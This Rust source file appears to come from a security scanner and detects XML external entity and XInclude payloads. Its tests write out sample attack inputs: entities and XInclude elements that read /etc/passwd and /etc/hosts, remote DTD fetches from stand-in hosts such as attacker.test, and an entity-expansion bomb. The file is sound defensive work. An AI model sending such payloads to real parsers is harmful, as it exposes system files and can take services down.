//! XML external entities: markup declarations (XML 1.0, section 2.8) that make a parser read
//! or fetch something, and XInclude (W3C XInclude 1.0).
//!
//! Rules:
//! - any entity declaration `<!ENTITY` (general or parameter: external ones read files and
//!   URLs, internal ones nest into expansion bombs);
//! - a document type declaration with an external subset (`SYSTEM "..."`, `PUBLIC "..." "..."`)
//!   or an internal subset using parameter entities (`%name;`), except the public identifiers
//!   of the W3C's own DTDs (`-//W3C//DTD XHTML 1.0 Strict//EN`), which pages carry;
//! - an XInclude element or namespace (`<xi:include`, `http://www.w3.org/2001/XInclude`).
use super::lex::{at, find};
use super::Meter;

/// How far a declaration is read.
const WINDOW: usize = 1024;

#[inline(never)] // See `detect` in mod.rs.
pub(crate) fn detect(s: &str, meter: &mut Meter) -> Option<usize> {
    let v = s.as_bytes();
    meter.add(v.len());
    if let Some(i) = find(v, b"www.w3.org/2001/xinclude") {
        return Some(i);
    }
    let mut i = 0;
    while i < v.len() {
        if v[i] != b'<' {
            i += 1;
            continue;
        }
        if at(v, i, b"<!entity") {
            return Some(i);
        }
        if at(v, i, b"<!doctype") {
            // The declaration as the XML body walker cuts it, within the window.
            let window = &v[..(i + 9 + WINDOW).min(v.len())];
            let end = super::parts::declaration_end(window, i);
            meter.add((end - i) * 3);
            if doctype_loads(&v[i + 9..end]) {
                return Some(i);
            }
            // The next declaration starts after this one.
            i = end;
            continue;
        }
        if xinclude(v, i + 1, meter) {
            return Some(i);
        }
        i += 1;
    }
    None
}

/// `<xi:include` (any prefix): an element named `include` with a namespace prefix, and an
/// `href` or `parse` attribute.
fn xinclude(v: &[u8], name: usize, meter: &mut Meter) -> bool {
    let e = super::lex::word_end(v, name, b"-.");
    if e - name > 32 {
        return false;
    }
    if v.get(e) != Some(&b':') || !at(v, e + 1, b"include") {
        return false;
    }
    // `<xi:include ` or `/>`, not `<jsp:includeX`; its attributes up to the tag's end.
    if !v
        .get(e + 8)
        .is_some_and(|c| c.is_ascii_whitespace() || *c == b'/')
    {
        return false;
    }
    let rest = &v[(e + 8).min(v.len())..(e + 8 + 256).min(v.len())];
    let rest = &rest[..rest.iter().position(|c| *c == b'>').unwrap_or(rest.len())];
    meter.add(rest.len() * 2);
    find(rest, b"href").is_some() || find(rest, b"parse").is_some()
}

/// A declaration's text after `<!DOCTYPE`: does it load anything?
fn doctype_loads(d: &[u8]) -> bool {
    // An entity declared in the internal subset (`[<!ENTITY x "..">]`).
    if find(d, b"<!entity").is_some() {
        return true;
    }
    // A parameter-entity reference (`%xxe;`) in an internal subset.
    let pe_reference = d.iter().enumerate().any(|(k, c)| {
        *c == b'%'
            && d.get(k + 1)
                .is_some_and(|n| n.is_ascii_alphabetic() || *n == b'_')
            && d[k + 1..]
                .iter()
                .take(64)
                .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')))
                == Some(&b';')
    });
    if pe_reference {
        return true;
    }
    let keyword = |w: &[u8]| {
        (0..d.len()).find(|&k| {
            at(d, k, w)
                && (k == 0 || d[k - 1].is_ascii_whitespace())
                && d.get(k + w.len())
                    .is_some_and(|c| c.is_ascii_whitespace() || *c == b'"' || *c == b'\'')
        })
    };
    if let Some(k) = keyword(b"system") {
        // HTML5's own doctype from XSLT: `<!DOCTYPE html SYSTEM "about:legacy-compat">`.
        let literal = super::lex::skip_spaces(d, k + 6);
        return !at(d, literal + 1, b"about:legacy-compat");
    }
    match keyword(b"public") {
        // The public identifier of a vendor's DTD is exempt only with its system literal on
        // the vendor's own site: the literal is what a parser fetches.
        Some(k) => !known_public_dtd(&d[k + 6..]),
        None => false,
    }
}

/// `"-//W3C//DTD ..." "http://www.w3.org/..."` and Apple's property lists
/// (`"-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"`), or the
/// public identifier alone.
fn known_public_dtd(d: &[u8]) -> bool {
    let mut literals = d.split(|c| *c == b'"' || *c == b'\'').skip(1).step_by(2);
    let (Some(public), system) = (literals.next(), literals.next()) else {
        return false;
    };
    let vendor: &[u8] = if at(public, 0, b"-//w3c//dtd ") {
        b"www.w3.org/"
    } else if at(public, 0, b"-//apple//dtd plist") {
        b"www.apple.com/"
    } else {
        return false;
    };
    system.is_none_or(|sys| {
        let sys = sys
            .strip_prefix(b"https://")
            .or_else(|| sys.strip_prefix(b"http://"));
        sys.is_some_and(|rest| at(rest, 0, vendor))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        detect(s, &mut Meter::default()).is_some()
    }

    #[test]
    fn external_entities_parameter_entities_and_xinclude() {
        for s in [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE foo SYSTEM \"http://x.example/evil.dtd\"><foo/>",
            "<!DOCTYPE r PUBLIC \"-//A//B\" \"http://x.example/a.dtd\"><r/>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x.example/e.dtd\"> %p;]>",
            "<!doctype r [ %remote; ]>",
            "<!DOCTYPE r [<!ENTITY e \"Doe\"> ]><r>&e;</r>",
            "<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<x:include href=\"file:///etc/hosts\"/>",
            "<!DOCTYPE r PUBLIC \"-//W3C//DTD X//EN\" \"http://attacker.test/x.dtd\"><r/>",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn documents_without_entities_are_not_xxe() {
        for s in [
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<?xml version=\"1.0\"?><order><id>12</id><note>50% off; the system works</note></order>",
            "the DOCTYPE says SYSTEM",
            "<include href=\"a\"/>",
            "<jsp:include page=\"a.jsp\"/><a href=\"/x\">",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>",
            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
        ] {
            assert!(!hit(s), "{s}");
        }
    }
}
